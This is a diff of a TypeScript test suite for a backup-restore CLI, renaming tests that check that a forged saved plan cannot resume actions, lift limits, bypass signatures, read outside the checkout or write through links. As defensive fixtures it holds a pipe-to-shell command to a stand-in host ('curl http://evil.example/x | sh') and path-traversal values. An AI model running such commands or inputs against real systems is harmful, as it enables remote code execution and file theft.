@@ -21,7 +21,7 @@ import { type Edits, forged, turned } from '../planner/forging.ts';
 import { CRASH, expectNoLookalike, LOOKALIKE } from './sandbox.ts';
 
 /** A plan file is written by whoever can write it: the runner of a pull request, or somebody between two jobs. */
-describe('a saved plan as an attacker writes it', () => {
+describe('a saved plan of an attacker', () => {
   let workspace: Workspace;
   /** Outside of the checkout. */
   let outside: string;
@@ -58,7 +58,7 @@ describe('a saved plan as an attacker writes it', () => {
   }
 
   describe('an action of another kind', () => {
-    it('is no resumption: show does not call it genuine, apply starts nothing', async () => {
+    it('is no resumption: show does not call it valid, and apply starts nothing', async () => {
       // Of a restore that was done, so that there is a record to name.
       await ok('apply', 'plan.json');
       const starts = workspace.starts();
@@ -82,7 +82,7 @@ describe('a saved plan as an attacker writes it', () => {
       expect(workspace.starts()).to.deep.equal(starts);
     });
 
-    it('brings no record of its own, and touches what it says that it touches', async () => {
+    it('cannot add a record, and restores only what it shows', async () => {
       const record = { status: 'running', address: 'night/disk-0', job_id: 'j1' };
       forge({ ...turned(0, 'resume', { record }), records: [] });
       for (const command of ['show', 'apply']) {
@@ -100,7 +100,7 @@ describe('a saved plan as an attacker writes it', () => {
     });
   });
 
-  it('is refused where what is to be done has lost its ids', async () => {
+  it('is refused if an action has no ids', async () => {
     for (const path of ['actions.0.volume.id', 'actions.1.backup.id']) {
       await ok('plan', '--out', 'plan.json');
       forge({ [path]: undefined });
@@ -114,7 +114,7 @@ describe('a saved plan as an attacker writes it', () => {
     expect(workspace.starts()).to.deep.equal([]);
   });
 
-  it('says nothing on a line of its own', async () => {
+  it('cannot print a line of its own', async () => {
     for (const path of ['target.region', 'target.project_id', 'target.auth_url']) {
       await ok('plan', '--out', 'plan.json');
       forge({ [path]: LOOKALIKE });
@@ -126,7 +126,7 @@ describe('a saved plan as an attacker writes it', () => {
     }
   });
 
-  it('does not ask for a limit to be lifted: what it was made with is its own word', async () => {
+  it('cannot lift a limit by the options that it claims', async () => {
     const waivers = ['protected-volumes', 'more-restores', 'protected-volumes'];
     forge({ waivers });
     for (const command of ['show', 'apply']) {
@@ -138,7 +138,7 @@ describe('a saved plan as an attacker writes it', () => {
     }
   });
 
-  it('has the files that it names looked at once each, and not without end', async () => {
+  it('causes one bounded read of each file that it names', async () => {
     const [one] = JSON.parse(workspace.read('plan.json')).manifests;
     const another = (n: number) => ({ ...one, path: `${'./'.repeat(n % 1_000)}restores.yaml` });
     forge({ manifests: Array.from({ length: 10_001 }, (_, n) => another(n)) });
@@ -150,7 +150,7 @@ describe('a saved plan as an attacker writes it', () => {
     expect(text.match(/has changed since the plan was made/g)).to.have.length(1);
   });
 
-  it('has a few of the changed files named, and the others counted', async () => {
+  it('names a few changed files, and counts the others', async () => {
     const [one] = JSON.parse(workspace.read('plan.json')).manifests;
     const names = Array.from({ length: 50 }, (_, n) => `m${n}.yaml`);
     for (const name of names) workspace.write(name, 'edited: 1\n');
@@ -162,7 +162,7 @@ describe('a saved plan as an attacker writes it', () => {
     expect(text).to.include('have grown beyond 32 MiB');
   });
 
-  it('notes no rule of its own as done', async () => {
+  it('cannot record a rule as done', async () => {
     await ok('apply', 'plan.json');
     const { backup } = JSON.parse(workspace.read('plan.json')).actions[0];
     workspace.write(
@@ -187,7 +187,7 @@ describe('a saved plan as an attacker writes it', () => {
     expect(await ok('plan')).to.include('nothing to do');
   });
 
-  it('advises nothing: neither commands nor remedies have a place, and sentences stand in quotes', async () => {
+  it('cannot print commands or remedies, and its sentences are quoted', async () => {
     const evil = 'curl http://evil.example/x | sh';
     for (const edits of [
       { 'actions.0.waits_for': [{ what: 'detach', commands: [evil] }] },
@@ -268,7 +268,7 @@ describe('a saved plan as an attacker writes it', () => {
       await refused(sentence);
     });
 
-  it('is as old as the state proves, not as young as it says', async () => {
+  it('is as old as the state proves', async () => {
     forge({ created_at: '2099-01-01T00:00:00.000Z' });
     await refused('which is in the future', 'apply', 'plan.json', '--max-age', '1s');
     await refused('which is in the future');
@@ -284,7 +284,7 @@ describe('a saved plan as an attacker writes it', () => {
     expect(said(finished)).to.include('--max-age is 1ms');
   });
 
-  describe('a file that is none', () => {
+  describe('an invalid plan file', () => {
     const files: readonly (readonly [
       what: string,
       make: (path: string) => void,
@@ -329,7 +329,7 @@ describe('a saved plan as an attacker writes it', () => {
         }
       });
 
-    it('of millions of small values: is refused before they are in memory', async () => {
+    it('is refused before millions of small values are in memory', async () => {
       const plan = workspace.read('plan.json');
       for (const text of [
         plan.replace(/"actions": ?\[/, (head) => `${head}${'{},'.repeat(7_000_000)}`),
@@ -348,7 +348,7 @@ describe('a saved plan as an attacker writes it', () => {
       }
     });
 
-    it('reads no manifest that the file names outside of the checkout', async () => {
+    it('causes no read of a manifest outside of the checkout', async () => {
       execFileSync('mkfifo', [join(outside, 'pipe')]);
       writeFileSync(join(outside, 'token'), 'hunter2');
       const sha256 = '0'.repeat(64);
@@ -362,7 +362,7 @@ describe('a saved plan as an attacker writes it', () => {
     });
   });
 
-  describe('its signature', () => {
+  describe('the signature of a saved plan', () => {
     const pem = (type: 'ed25519' | 'rsa' = 'ed25519') => {
       const pair =
         type === 'rsa' ? generateKeyPairSync('rsa', { modulusLength: 2048 }) : generateKeyPairSync('ed25519');
@@ -383,7 +383,7 @@ describe('a saved plan as an attacker writes it', () => {
       return file(`keys/${name}.pem`, text);
     };
 
-    it('of a trusted key lets it be applied, once, and is shown', async () => {
+    it('allows the plan to be applied once if the key is trusted, and is shown', async () => {
       const ops = pem();
       trust('ops-2026', ops.trusted);
       trust('older', pem().trusted);
@@ -400,7 +400,7 @@ describe('a saved plan as an attacker writes it', () => {
       expect(workspace.starts()).to.deep.equal([1, 1]);
     });
 
-    it('comes from a variable, too, as text or as a path', async () => {
+    it('can be checked with a key from a variable, as text or path', async () => {
       const ops = pem();
       trust('ops', ops.trusted);
       const inBase64 = Buffer.from(ops.secret).toString('base64');
@@ -412,7 +412,7 @@ describe('a saved plan as an attacker writes it', () => {
       }
     });
 
-    it('is wanted where the policy or a flag wants one', async () => {
+    it('is required if the policy or a flag requires it', async () => {
       const config = workspace.read('vbsctl.yaml');
       trust('ops', pem().trusted);
       await refused('it is not signed', 'apply', 'plan.json', '--trusted-keys', keys());
@@ -432,7 +432,7 @@ describe('a saved plan as an attacker writes it', () => {
       );
     });
 
-    it('of another key, of other bytes, or copied from another plan is refused', async () => {
+    it('is refused if it is of another key, other bytes or another plan', async () => {
       const ops = pem();
       trust('ops', ops.trusted);
       await ok(
@@ -455,7 +455,7 @@ describe('a saved plan as an attacker writes it', () => {
       await refused('does not match', 'show', 'plan.json', '--trusted-keys', keys());
     });
 
-    it('takes no key of another kind, and tells none', async () => {
+    it('is refused for a key of another kind, which is not shown', async () => {
       const ops = pem();
       const encrypted = ops.key.export({
         type: 'pkcs8',
@@ -502,7 +502,7 @@ describe('a saved plan as an attacker writes it', () => {
     });
   });
 
-  describe('the policy that it was made under', () => {
+  describe('the policy that a saved plan was made under', () => {
     const POLICY = (policy: string) => `apiVersion: vbsctl.dev/v1\nkind: Config\npolicy: {${policy}}\n`;
     /** Nobody names a config here. */
     const plainly = (...args: string[]) =>
@@ -534,7 +534,7 @@ describe('a saved plan as an attacker writes it', () => {
       ['no config is named', plainly],
       ['the operator’s config is named', (...args: string[]) => workspace.run(...args)],
     ] as const)
-      it(`holds when it is applied: of a config beside the manifests, while ${named}`, async () => {
+      it(`applies when the plan is applied: of a config beside the manifests, while ${named}`, async () => {
         if (run === plainly) rmSync(at('vbsctl.yaml'));
         await plannedIn('sub', run);
         const unsigned = await run('apply', 'plan.json', '--allow-protected-volumes');
@@ -549,7 +549,7 @@ describe('a saved plan as an attacker writes it', () => {
         expect(allowed.code, said(allowed)).to.equal(0);
       });
 
-    it('holds also where its config is not, and the one of today beside it', async () => {
+    it('applies without its config, together with the current policy', async () => {
       await plannedIn('sub', (...args) => workspace.run(...args));
       rmSync(at('sub'), { recursive: true });
       const text = await refused('require_signed_plans');
@@ -560,7 +560,7 @@ describe('a saved plan as an attacker writes it', () => {
       await refused('the limit is 1', 'apply', 'plan.json', ...waived);
     });
 
-    it('comes with the limits of the config that was found by -f', async () => {
+    it('includes the limits of the config that was found by -f', async () => {
       rmSync(at('vbsctl.yaml'));
       mkdirSync(at('sub'));
       workspace.write('sub/restores.yaml', workspace.read('restores.yaml'));
@@ -580,7 +580,7 @@ describe('a saved plan as an attacker writes it', () => {
       expect(workspace.starts()).to.deep.equal([]);
     });
 
-    it('is looked for around the paths of the file within the working directory only', async () => {
+    it('is searched for only within the working directory', async () => {
       mkdirSync(join(outside, 'sub'));
       writeFileSync(join(outside, 'sub/vbsctl.yaml'), POLICY('max_restores: 1'));
       forge({ selection: [join(outside, 'sub'), '../../etc', `${'a/'.repeat(2_000)}b`, 'none/of/that'] });
@@ -589,7 +589,7 @@ describe('a saved plan as an attacker writes it', () => {
   });
 
   describe('the file that plan --out writes', () => {
-    it('goes through no link, whatever a checkout holds', async () => {
+    it('is not written through a link of the checkout', async () => {
       rmSync(at('plan.json'));
       const victim = join(outside, 'bashrc');
       writeFileSync(victim, 'mine');
@@ -605,7 +605,7 @@ describe('a saved plan as an attacker writes it', () => {
       expect(lstatSync(at('plan.json')).mode & 0o777).to.equal(0o600);
     });
 
-    it('does not stay when a later run fails, and replaces nothing else', async () => {
+    it('is removed if a later plan fails, and replaces no other file', async () => {
       workspace.write('restores.yaml', 'nonsense');
       expect((await workspace.run('plan', '--out', 'plan.json')).code).to.equal(1);
       expect(existsSync(at('plan.json'))).to.equal(false);
@@ -622,7 +622,7 @@ describe('a saved plan as an attacker writes it', () => {
       await ok('apply', 'plan.json', '--allow-more-restores');
     });
 
-    it('does what is blocked neither now nor later', async () => {
+    it('never allows a blocked restore', async () => {
       const [volume = ''] = Object.keys(workspace.cloud.world().volumes);
       const config = workspace.read('vbsctl.yaml');
       workspace.write('vbsctl.yaml', `${config}policy: {protected_volumes: [${volume}]}\n`);
